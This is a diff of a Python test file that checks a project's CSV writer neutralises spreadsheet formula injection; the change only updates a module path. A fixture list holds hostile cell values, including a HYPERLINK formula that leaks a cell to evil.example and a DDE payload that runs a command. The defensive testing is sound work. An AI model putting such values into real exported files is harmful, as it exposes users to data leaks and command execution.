@@ -1,6 +1,6 @@
 """Every CSV we write is safe to open in a spreadsheet: a text cell that would start a formula (``=``, ``+``,
 ``-``, ``@``, tab, carriage return) is written with a leading apostrophe, numbers stay numbers, and JSON keeps
-the value as it is. One writer (csvcells.py) for every CSV, checked here on each of them."""
+the value as it is. One writer (formats/csvcells.py) for every CSV, checked here on each of them."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from econarena.cli import main
-from econarena.csvcells import FORMULA_START, csv_text, frame_csv, safe_cell
+from econarena.formats.csvcells import FORMULA_START, csv_text, frame_csv, safe_cell
 
 REPO = Path(__file__).resolve().parent.parent
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
@@ -51,7 +51,7 @@ def test_frame_csv_keeps_numbers_and_makes_text_safe(tmp_path: Path) -> None:
 
 
 def test_every_csv_goes_through_the_one_writer() -> None:
-    """No module writes a CSV with csv.writer or DataFrame.to_csv of its own: csvcells.py is the one writer."""
+    """No module writes a CSV with csv.writer or DataFrame.to_csv of its own: formats/csvcells.py is the one writer."""
     call = re.compile(r"\b(?:csv\.writer|csv\.DictWriter|DictWriter|\.to_csv)\(")
     offenders = []
     for path in [*REPO.glob("*.py"), *(p for d in ("agents", "analysis", "games", "hosts", "importers")
